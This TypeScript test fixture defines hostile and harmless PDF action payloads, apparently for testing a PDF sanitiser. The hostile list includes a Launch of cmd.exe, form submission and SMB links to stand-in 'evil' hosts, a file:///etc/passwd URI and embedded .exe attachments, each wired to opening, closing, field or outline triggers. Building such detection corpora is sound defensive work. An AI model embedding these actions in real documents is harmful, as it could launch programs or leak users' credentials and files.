/** Something that is put into a document. */
export interface Payload {
  readonly title: string;
  readonly value: string;
  /** What refers to it: entries of the catalog or of the page. */
  readonly hook: (value: string) => { readonly catalog?: string; readonly page?: string };
}

type Hook = Payload["hook"];

const link: Hook = (value) => ({
  page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${value} >>]`,
});
const note: Hook = (value) => ({ page: `/Annots [${value}]` });
const hooks: Readonly<Record<string, Hook>> = {
  "a link": link,
  "opening the document": (value) => ({ catalog: `/OpenAction ${value}` }),
  "opening the page": (value) => ({ page: `/AA << /O ${value} >>` }),
  "closing the document": (value) => ({ catalog: `/AA << /WC ${value} >>` }),
  "what follows a jump": (value) => link(`<< /S /GoTo /D [3 0 R /Fit] /Next [${value}] >>`),
  "a field": (value) => ({
    catalog: "/AcroForm << /Fields [] >>",
    page: `/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K ${value} >> >>]`,
  }),
  "an outline": (value) => ({
    catalog: `/Outlines << /First << /Title (a) /A ${value} >> >>`,
  }),
};

const actions: Readonly<Record<string, string>> = {
  script: "<< /S /JavaScript /JS (app.alert) >>",
  launch: "<< /Type /Action /S /Launch /F (cmd.exe) >>",
  "other file": "<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>",
  "other file, described": "<< /S /GoToR /F << /Type /Filespec /UF (//evil/share) >> /D [0] >>",
  "embedded file": "<< /S /GoToE /T << /R /C /N (a) >> >>",
  form: "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example.test) >> >>",
  import: "<< /S /ImportData /F (a.fdf) >>",
  rendition: "<< /S /Rendition /OP 0 /R << /S /MR >> >>",
  "address of a script": "<< /S /URI /URI (javascript:alert) >>",
  "address of a file": "<< /S /URI /URI (file:///etc/passwd) >>",
  "address of a share": "<< /S /URI /URI (\\\\\\\\evil\\\\share) >>",
  "address of a share with slashes": "<< /S /URI /URI (//evil/share) >>",
  "address of data": "<< /S /URI /URI (DATA:text/html,a) >>",
  "address of another script": "<< /S /URI /URI (VBscript:a) >>",
  "address of a server": "<< /S /URI /URI (smb://evil/share) >>",
};

const structures: readonly Payload[] = [
  {
    title: "names of scripts",
    value: "<< /Names [(a) << /S /JavaScript /JS (app.alert) >>] >>",
    hook: (value) => ({ catalog: `/Names << /JavaScript ${value} >>` }),
  },
  {
    title: "names of files",
    value: "<< /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>] >>",
    hook: (value) => ({ catalog: `/Names << /EmbeddedFiles ${value} >>` }),
  },
  {
    title: "a pinned file",
    value: "<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.exe) /EF << /F 3 0 R >> >> >>",
    hook: note,
  },
  { title: "a screen", value: "<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>", hook: note },
  { title: "a film", value: "<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] >>", hook: note },
  { title: "rich media", value: "<< /Subtype /RichMedia /Rect [0 0 9 9] >>", hook: note },
  {
    title: "a base of all links",
    value: "<< /Base (file:///C:/) >>",
    hook: (value) => ({ catalog: `/URI ${value}` }),
  },
  {
    title: "a form of the XML kind",
    value: "<< /Fields [] /XFA [(template) 3 0 R] >>",
    hook: (value) => ({ catalog: `/AcroForm ${value}` }),
  },
];

/** To be refused, wherever they are. */
export const hostilePayloads: readonly Payload[] = [
  ...Object.entries(actions).flatMap(([action, value]) =>
    Object.entries(hooks).map(([place, hook]) => ({
      title: `${action} behind ${place}`,
      value,
      hook,
    })),
  ),
  ...structures,
];

/** To be taken. */
export const harmlessPayloads: readonly Payload[] = [
  "<< /S /URI /URI (https://ahu.go.id/a?b=1) >>",
  "<< /Type /Action /S /URI /URI (http://rukun.example) >>",
  "<< /S /URI /URI (mailto:notaris@rukun.example) >>",
  "<< /S /URI /URI (tel:+62215550100) >>",
  "<< /S /URI /URI (www.rukun.example) >>",
  "<< /S /GoTo /D [3 0 R /Fit] >>",
  "<< /S /Named /N /NextPage >>",
  "<< /S /GoTo /D (javascript:bab) /Next << /S /GoTo /D (a) >> >>",
].map((value) => ({ title: `a link: ${value}`, value, hook: link }));
